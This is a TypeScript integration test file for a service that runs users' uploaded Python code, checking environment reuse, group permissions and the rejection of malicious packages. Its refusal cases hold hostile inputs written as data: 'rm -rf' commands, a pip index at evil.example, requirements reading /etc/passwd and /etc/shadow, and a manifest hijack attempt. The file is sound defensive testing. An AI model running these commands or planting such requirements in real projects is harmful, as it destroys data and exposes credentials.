// Bring your own code on the local host (docs/own-code.md), real Temporal, PGlite and PyPI: a
// member of a group with ownCode uploads code.py + requirements.txt and runs 20 tuples; the
// setup builds the environment once, a second series reuses it (its log says so, no second
// build). And the attacks: a member of a group without ownCode, a member turning a program
// into own code, manifests and requirements that must be refused, each answer naming why.
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { before, describe, test } from 'node:test';
import { waitForSeriesEnd } from '../support/stack.ts';
import { useTestStack } from '../support/stack-per-file.ts';
import { adminCookie } from '../support/admin-cookie.ts';
import {
  APP,
  assertRunsImported,
  CODE_PY,
  DEPENDENCY,
  environmentsIn,
  groupWith,
  makeZip,
  member,
  sweepOf,
  upload,
  type Member,
} from './own-code-fixture.ts';

type ErrorBody = { error: { code: string; message: string; field?: string; line?: number } };

describe('own code on the local host', { timeout: 600_000 }, () => {
  const testbed = useTestStack();
  let alice: Member; // in `lab`, which runs its own code
  let bob: Member; // in `plain`, which does not
  const workdir = () => path.join(testbed.stack.dataDir, 'work');
  const zip = (name: string, entries: Record<string, string>) =>
    makeZip(testbed.stack.dataDir, name, entries);
  const submit = (who: Member, body: Record<string, unknown>) =>
    testbed.stack.request<{ id: string } & ErrorBody>(
      'POST',
      '/api/v1/series',
      { application: APP, host: 'local', ini: sweepOf(2), ...body },
      who.token,
    );

  before(async () => {
    const app = await testbed.stack.request('POST', '/api/v1/applications', { name: APP, kind: 'own-code' });
    assert.equal(app.status, 201, JSON.stringify(app.body));
    [alice, bob] = await Promise.all([member(testbed.stack, 'alice'), member(testbed.stack, 'bob')]);
    await groupWith(testbed.stack, { name: 'lab', ownCode: true, member: alice, hosts: ['local'] });
    await groupWith(testbed.stack, { name: 'plain', ownCode: false, member: bob, hosts: ['local'] });
  });

  test('20 tuples run code.py in an environment built once; a second series reuses it', async () => {
    const pkg = await upload(
      testbed.stack,
      alice.token,
      await zip('code.zip', {
        'code.py': CODE_PY,
        'requirements.txt': `# what code.py imports\n${DEPENDENCY}\n`,
      }),
    );
    const first = await submit(alice, { ini: sweepOf(20), package: pkg });
    assert.equal(first.status, 201, JSON.stringify(first.body));
    const done = await waitForSeriesEnd(testbed.stack, first.body.id);
    assert.equal(done.state, 'completed', JSON.stringify(done));
    assert.equal(done.counts.succeeded, 20);
    const env = await assertRunsImported(path.join(workdir(), first.body.id, 'runs'), 20);

    const setup = await testbed.stack.request<{ ownCode: { requirements: string[] }; log: string }>(
      'GET',
      `/api/v1/series/${first.body.id}/setup`,
      undefined,
      alice.token,
    );
    assert.equal(setup.status, 200);
    assert.deepEqual(setup.body.ownCode.requirements, [DEPENDENCY]);
    assert.match(setup.body.log, /own code: building \S+ with python3/);
    assert.match(setup.body.log, /Successfully installed six-1\.17\.0/);

    // Another series of the same group and requirements (other code): the same environment.
    const again = await upload(
      testbed.stack,
      alice.token,
      await zip('again.zip', { 'code.py': `${CODE_PY}print("second")\n`, 'requirements.txt': DEPENDENCY }),
    );
    const second = await submit(alice, { ini: sweepOf(3), package: again });
    assert.equal(second.status, 201, JSON.stringify(second.body));
    assert.equal((await waitForSeriesEnd(testbed.stack, second.body.id)).state, 'completed');
    assert.equal(await assertRunsImported(path.join(workdir(), second.body.id, 'runs'), 3), env);
    const log = (
      await testbed.stack.request<{ log: string }>(
        'GET',
        `/api/v1/series/${second.body.id}/setup`,
        undefined,
        alice.token,
      )
    ).body.log;
    assert.match(log, /own code: reusing \S+, built /);
    assert.doesNotMatch(log, /building|Successfully installed/);
    assert.deepEqual(await environmentsIn(workdir()), [path.basename(env)]);

    // The series page shows the environment and the setup's log (scrypt makes a sign-in slow: once).
    const cookie = await adminCookie(testbed.stack.url);
    const page = await (
      await fetch(`${testbed.stack.url}/series/${second.body.id}`, { headers: { cookie } })
    ).text();
    assert.match(page, /Environment \(own code\)/);
    assert.match(page, /<pre id="setup-log">[^<]*own code: reusing /);
  });

  test('a member of a group without ownCode is refused at submit, preview and clone', async () => {
    const pkg = await upload(testbed.stack, bob.token, await zip('bob.zip', { 'code.py': CODE_PY }));
    const submitted = await submit(bob, { package: pkg });
    assert.equal(submitted.status, 403, JSON.stringify(submitted.body));
    assert.equal(submitted.body.error.code, 'own_code_not_enabled');
    assert.match(submitted.body.error.message, /group 'plain' does not let its members run their own code/);

    const preview = await testbed.stack.request<ErrorBody>(
      'POST',
      '/api/v1/sweeps/preview',
      { ini: sweepOf(2), application: APP },
      bob.token,
    );
    assert.equal(preview.status, 403, JSON.stringify(preview.body));
    assert.equal(preview.body.error.code, 'own_code_not_enabled');

    // Alice's series (everyone sees it), cloned by bob with his own package: still his group's rule.
    const alices = await submit(alice, {
      package: await upload(testbed.stack, alice.token, await zip('a.zip', { 'code.py': 'print(1)\n' })),
    });
    assert.equal(alices.status, 201, JSON.stringify(alices.body));
    const clone = await testbed.stack.request<ErrorBody>(
      'POST',
      `/api/v1/series/${alices.body.id}/clone`,
      { package: pkg },
      bob.token,
    );
    assert.equal(clone.status, 403, JSON.stringify(clone.body));
    assert.equal(clone.body.error.code, 'own_code_not_enabled');
    await waitForSeriesEnd(testbed.stack, alices.body.id);
  });

  test('a member cannot make a program own code; a program ignores a manifest in its package', async () => {
    const program = await testbed.stack.request('POST', '/api/v1/applications', {
      name: 'vetted',
      command: 'echo vetted',
    });
    assert.equal(program.status, 201, JSON.stringify(program.body));
    const patch = await testbed.stack.request(
      'PATCH',
      '/api/v1/applications/vetted',
      { kind: 'own-code' },
      alice.token,
    );
    assert.equal(patch.status, 403);
    const own = await testbed.stack.request(
      'POST',
      '/api/v1/applications',
      { name: 'x', kind: 'own-code' },
      alice.token,
    );
    assert.equal(own.status, 403);
    // Not even an admin changes a registered application's kind (re-register it instead).
    const asAdmin = await testbed.stack.request<ErrorBody>('PATCH', '/api/v1/applications/vetted', {
      kind: 'own-code',
    });
    assert.equal(asAdmin.status, 400, JSON.stringify(asAdmin.body));
    // A manifest in the package of a program's series is just a file, and a series has no kind
    // of its own (the key is ignored): the admin's command runs.
    await testbed.stack.request('PUT', '/api/v1/groups/lab/applications/vetted');
    const pkg = await upload(
      testbed.stack,
      alice.token,
      await zip('m.zip', { 'tuplet.json': '{"command": "echo hijacked"}', 'code.py': 'print("hijacked")\n' }),
    );
    const series = await submit(alice, {
      application: 'vetted',
      kind: 'own-code',
      package: pkg,
      ini: sweepOf(1),
    });
    assert.equal(series.status, 201, JSON.stringify(series.body));
    assert.equal((await waitForSeriesEnd(testbed.stack, series.body.id)).state, 'completed');
    const runs = path.join(workdir(), series.body.id, 'runs');
    const [dir] = await readdir(runs);
    assert.equal(await readFile(path.join(runs, dir!, '.tuplet', 'stdout'), 'utf8'), 'vetted\n');
  });

  test('an own-code application takes no command or setup; its series needs a package', async () => {
    const withCommand = await testbed.stack.request<ErrorBody>('POST', '/api/v1/applications', {
      name: 'own2',
      kind: 'own-code',
      command: 'rm -rf /',
    });
    assert.equal(withCommand.status, 400);
    assert.match(JSON.stringify(withCommand.body), /command/);
    const patched = await testbed.stack.request<ErrorBody>('PATCH', `/api/v1/applications/${APP}`, {
      setup: 'true',
    });
    assert.equal(patched.status, 422, JSON.stringify(patched.body));
    assert.equal(patched.body.error.field, 'setup');
    const noPackage = await submit(alice, {});
    assert.equal(noPackage.status, 422, JSON.stringify(noPackage.body));
    assert.equal(noPackage.body.error.field, 'package');
  });

  const refusals: Array<[string, Record<string, string>, RegExp, number?]> = [
    ['no code.py and no manifest', { 'main.py': 'print(1)\n' }, /no code\.py at its top and no tuplet\.json/],
    [
      'a manifest without a command, no code.py',
      { 'tuplet.json': '{"python": "python3"}' },
      /no code\.py at its top/,
    ],
    ['a manifest that is not JSON', { 'code.py': '', 'tuplet.json': '{command:' }, /tuplet\.json: not JSON/],
    ['an unknown manifest key', { 'code.py': '', 'tuplet.json': '{"entry": "x.py"}' }, /unknown key entry/],
    [
      'a manifest command of the wrong type',
      { 'tuplet.json': '{"command": ["python"]}' },
      /tuplet\.json: command: /,
    ],
    [
      'an interpreter that is no python3',
      { 'code.py': '', 'tuplet.json': '{"python": "bash"}' },
      /python: .*python3/,
    ],
    ['a multi-line command', { 'tuplet.json': '{"command": "true\\nrm -rf ~"}' }, /command: one line/],
    [
      'an editable path',
      { 'code.py': '', 'requirements.txt': 'six\n-e /\n' },
      /line 2: "-e \/": pip options/,
      2,
    ],
    [
      'another index',
      { 'code.py': '', 'requirements.txt': '--index-url http://evil.example/simple\nsix\n' },
      /line 1: .*pip options/,
      1,
    ],
    [
      'a file: URL',
      { 'code.py': '', 'requirements.txt': 'six @ file:///etc/passwd\n' },
      /line 1: .*paths and URLs/,
      1,
    ],
    [
      'a local path',
      { 'code.py': '', 'requirements.txt': '\n\n./other-groups-code\n' },
      /line 3: .*paths and URLs/,
      3,
    ],
    [
      'an included file',
      { 'code.py': '', 'requirements.txt': '-r /etc/shadow\n' },
      /line 1: .*pip options/,
      1,
    ],
    [
      'an environment variable',
      { 'code.py': '', 'requirements.txt': 'six==${HOME}\n' },
      /line 1: .*environment variables/,
      1,
    ],
    [
      'a VCS URL',
      { 'code.py': '', 'requirements.txt': 'git+https://example.com/x.git\n' },
      /paths and URLs/,
      1,
    ],
    [
      'a pyproject dependency with a path',
      {
        'code.py': '',
        'pyproject.toml': '[project]\nname = "x"\ndependencies = ["six", "x @ file:///tmp/x"]\n',
      },
      /pyproject\.toml: project\.dependencies\[1\]: .*paths and URLs/,
    ],
  ];
  test('malformed manifests and requirements pointing outside are refused, naming what and where', async () => {
    for (const [what, entries, message, line] of refusals) {
      const pkg = await upload(testbed.stack, alice.token, await zip('bad.zip', entries));
      const answer = await submit(alice, { package: pkg });
      assert.equal(answer.status, 422, `${what}: ${JSON.stringify(answer.body)}`);
      assert.equal(answer.body.error.code, 'invalid_own_code', what);
      assert.match(answer.body.error.message, message, what);
      if (line !== undefined) assert.equal(answer.body.error.line, line, what);
    }
  });
});
